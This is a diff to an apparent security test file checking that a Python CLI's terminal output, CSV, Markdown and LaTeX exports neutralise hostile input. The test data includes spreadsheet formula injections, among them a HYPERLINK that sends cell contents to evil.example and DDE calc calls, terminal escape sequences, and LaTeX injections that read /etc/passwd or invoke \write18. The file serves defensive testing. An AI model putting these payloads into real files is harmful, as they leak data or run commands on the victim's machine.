@@ -4,14 +4,20 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from typer.testing import CliRunner
 
 from core.mrn.alignments.mapping_file import parse_mapping, template
+from core.paths import log_path
 from core.plain_text import spreadsheet_cell, terminal_text, unguarded_cell
-from jobs.sheets import csv_text
+from jobs.cli.app import app
+from jobs.sheets import Block, Entry, Sheet, csv_text, latex, markdown
+from tests.security.hostile import MARKUP, fill_hostile
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)",
@@ -89,3 +95,39 @@ def test_nothing_but_lines_and_tabs_is_left_to_command(text: str) -> None:
 
 def _commands(mark: str) -> bool:
     return mark not in "\n\t" and (ord(mark) < 32 or 127 <= ord(mark) < 160)
+
+
+def test_no_verb_commands_the_terminal(laboratory: Path) -> None:
+    """A store whose labels, tasks, notes and launches hold escape sequences, as the verbs tell it."""
+    escape = "\x1b]0;owned\x07\x9b2J\u202e"
+    filled = fill_hostile(f"sqlite:///{laboratory / 'runs.db'}", seeds=(1,), markup=escape, tag="plain")
+    run = str(filled.mrn[0])
+    log_path(filled.mrn[0]).write_text(f"a line {escape}\n")
+    said = ""
+    for verb in (
+        ["runs"],
+        ["show", run, "--log", "3"],
+        ["results"],
+        ["relations", run],
+        ["relations", run, "--numbers"],
+    ):
+        done = CliRunner().invoke(
+            app, verb, color=True
+        )  # without colours, Typer would take sequences out itself
+        assert done.exit_code == 0, done.output
+        assert not [mark for mark in done.output if _commands(mark) or mark == "\u202e"]
+        said += done.output
+    assert r"\x1b]0;owned\x07\x9b2J\u202e" in said
+
+
+def test_tables_to_paste_hold_no_markup() -> None:
+    sheet = Sheet((MARKUP, "pos"), (Block(MARKUP, ((MARKUP, (Entry(MARKUP),)),)),), MARKUP)
+    told = markdown(sheet)
+    assert re.search(r"(?<!\\)[<\[$]", told) is None
+    written = latex(
+        Sheet(("\\input{/etc/passwd}", "^^5cinput"), (Block("", (("%$#_&~{}\\", (None,)),)),), "\\write18{x}")
+    )
+    assert "\\input" not in written
+    assert "\\write" not in written
+    assert "^^" not in written
+    assert r"\%\$\#\_\&\textasciitilde{}\{\}\textbackslash{}" in written
